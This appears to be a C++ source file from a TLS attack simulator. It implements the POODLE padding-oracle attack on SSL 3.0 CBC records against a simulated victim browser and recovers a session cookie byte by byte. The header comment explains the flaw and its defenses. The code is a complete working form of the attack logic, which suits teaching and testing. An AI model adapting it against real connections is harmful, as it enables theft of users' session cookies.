// poodle: the padding oracle of SSL 3.0 CBC records (Möller, Duong, Kotowicz 2014, CVE-2014-3566).
// SSL 3.0 checks only the last byte of a CBC record's padding, its length, never the padding
// bytes, and the MAC does not cover them (RFC 6101 5.2.3.2). When the request's length makes the
// padding a whole block, the attacker replaces that last block with the ciphertext block that
// holds the byte it wants: the record is accepted exactly when that block decrypts to a last byte
// of block_size - 1, that is in one case out of 256, and the byte then follows from two
// ciphertext bytes: P[i][last] = C[i-1][last] xor C[n-1][last] xor (block_size - 1). Each try
// costs one request of the victim's browser (the attacker's script on a page chooses its path
// and body) on a fresh connection, whose fresh keys give a fresh chance. TLS checks every padding
// byte (RFC 2246 6.2.3.2), so the same attack only works on a TLS stack that skips that check
// (CVE-2014-8730); the defenses are refusing SSL 3.0 (with TLS_FALLBACK_SCSV against a forced
// fallback, RFC 7507, RFC 7568) and the TLS padding check.

#include "attack/script.hpp"
#include "attack/victim_exchange.hpp"

namespace sim::attack {

namespace {

class Poodle : public BrowserRequestAttack {
 public:
  explicit Poodle(const ScenarioOptions& o) : BrowserRequestAttack(o, 4099) {
    won_ = msg("attack.poodle.succeeded");
    lost_ = msg("attack.poodle.failed");
  }

  std::optional<AttackReport> report(const Trace& t, bool over) const override {
    AttackReport r = make_report(won_, lost_, t, over, succeeded(t), evidence(t));
    set_request_work(r);
    if (r.succeeded == false && !r.stopped_by_alert) {
      std::string got = std::to_string(recovered_.size()), n = std::to_string(cookie_len_);
      r.summary = cancelled_      ? msg("attack.poodle.cancelled").arg("bytes", got).arg("length", n)
                  : no_layout_    ? msg("attack.poodle.failed_no_cbc")
                  : !analyzed_    ? lost_
                                  : msg("attack.poodle.failed_budget")
                                      .arg("requests", std::to_string(requests_))
                                      .arg("bytes", got)
                                      .arg("length", n)
                                      .arg("alerts", std::to_string(alerts_));
    }
    return r;
  }

 protected:
  bool succeeded(const Trace&) const override { return analyzed_ && cookie_len_ > 0 && recovered_.size() == cookie_len_; }

  std::vector<AttackEvidence> evidence(const Trace&) const override {
    std::vector<AttackEvidence> out;
    if (!analyzed_) return out;
    if (!recovered_.empty()) out.push_back(text_evidence("cookie_recovered", msg("evidence.cookie_recovered"), to_bytes(recovered_)));
    std::string per_byte;
    for (uint64_t n : per_byte_) per_byte += (per_byte.empty() ? "" : " ") + std::to_string(n);
    if (!per_byte.empty()) out.push_back(text_evidence("requests_per_byte", msg("evidence.requests_per_byte"), to_bytes(per_byte)));
    out.push_back(text_evidence("server_answers", msg("evidence.poodle_answers"),
                                to_bytes(std::to_string(accepted_) + " / " + std::to_string(alerts_))));
    return out;
  }

 private:
  static const Bytes* client_request_record(const Exchange& x) {
    for (const Bytes& r : x.client_records)
      if (record_type(r) == uint8_t(ContentType::application_data)) return &r;
    return nullptr;
  }

  void run(Progress& progress) override {
    analyzed_ = true;
    ClientConfig cc = client_config(opts_);
    ServerConfig sc = server_config(opts_);
    VictimBrowser browser(cc);  // holds the cookie; the attacker only asks it for requests
    const std::string host = browser.host();

    // 1. The layout, from lengths alone: the body grows a byte at a time until the record
    // grows by a block; there the padding is a whole block, and the request's length (hence
    // the cookie's) follows from the record's.
    const std::string path0 = "/";
    size_t first_len = 0;
    for (size_t b = 0;; ++b) {
      if (progress.cancelled()) return;
      std::string body(10 + b, 'A');  // two digits of Content-Length throughout
      Exchange x = request(browser, sc, path0, body, progress);
      auto choice = server_choice(x);
      const Bytes* rec = client_request_record(x);
      if (!choice || !rec) return;  // the handshake did not go through: nothing to attack
      const CipherSuiteInfo& s = *choice->suite;
      if (s.block_len == 0 || s.aead() || choice->version > kTls12) {
        no_layout_ = true;  // no CBC padding to play with
        return;
      }
      bl_ = s.block_len;
      mac_len_ = s.mac_len;
      iv_len_ = choice->version >= kTls11 ? bl_ : 0;
      size_t len = rec->size() - 5;
      if (b == 0) first_len = len;
      if (len > first_len) {
        size_t req_len = len - iv_len_ - bl_ - mac_len_;  // the padding: one whole block
        size_t known = VictimBrowser::head_before_cookie(host, path0, body).size() + VictimBrowser::tail_after_cookie(body).size();
        if (req_len < known) return;
        cookie_len_ = req_len - known;
        break;
      }
      if (b > 2 * 16) return;  // never happens with a block cipher
    }
    uint64_t budget = opts_.query_budget ? opts_.query_budget : 256u * 4u * std::max<size_t>(cookie_len_, 1);
    progress.set_total(budget);

    // 2. Byte by byte: the path moves the byte to the end of a block, the body keeps the
    // padding a whole block.
    for (size_t t = 0; t < cookie_len_; ++t) {
      std::string path = "/";
      while ((VictimBrowser::head_before_cookie(host, path, "").size() + t) % bl_ != bl_ - 1) path += 'a';
      size_t pos = VictimBrowser::head_before_cookie(host, path, "").size() + t;
      std::string body(10, 'B');
      while ((VictimBrowser::head_before_cookie(host, path, body).size() + cookie_len_ +
              VictimBrowser::tail_after_cookie(body).size() + mac_len_) % bl_ != 0)
        body += 'B';
      size_t target = iv_len_ / bl_ + pos / bl_;  // the ciphertext block holding the byte
      uint64_t tries = 0;
      for (;;) {
        if (progress.cancelled() || requests_ >= budget) return;
        uint8_t before_target = 0, before_last = 0;
        bool swapped = false;
        Tamper swap = [&](const Bytes& rec, size_t) -> std::optional<Bytes> {
          if (swapped || record_type(rec) != uint8_t(ContentType::application_data)) return std::nullopt;
          size_t n = (rec.size() - 5) / bl_;
          if (target + 1 >= n || target == 0) return std::nullopt;
          swapped = true;
          Bytes out = rec;
          auto block = [&](size_t i) { return out.begin() + long(5 + i * bl_); };
          before_target = *(block(target - 1) + long(bl_ - 1));
          before_last = *(block(n - 2) + long(bl_ - 1));
          std::copy(block(target), block(target + 1), block(n - 1));
          return out;
        };
        Exchange x = request(browser, sc, path, body, progress, swap);
        ++tries;
        if (!swapped) return;  // no request came: nothing more to try
        // The server's answer as the wire shows it: a page (application data) or an alert.
        bool page = false, alert = false;
        for (const Bytes& r : x.server_records) {
          page |= record_type(r) == uint8_t(ContentType::application_data);
          alert |= record_type(r) == uint8_t(ContentType::alert);
        }
        if (page) {
          ++accepted_;
          recovered_ += char(before_target ^ before_last ^ uint8_t(bl_ - 1));
          per_byte_.push_back(tries);
          progress.set_partial(recovered_);
          break;
        }
        if (alert) ++alerts_;
      }
    }
  }

  bool analyzed_ = false, no_layout_ = false;
  size_t bl_ = 0, mac_len_ = 0, iv_len_ = 0, cookie_len_ = 0;
  std::string recovered_;
  std::vector<uint64_t> per_byte_;
  uint64_t accepted_ = 0, alerts_ = 0;
};

}  // namespace

std::shared_ptr<Attacker> poodle(const ScenarioOptions& o) { return std::make_shared<Poodle>(o); }

}  // namespace sim::attack
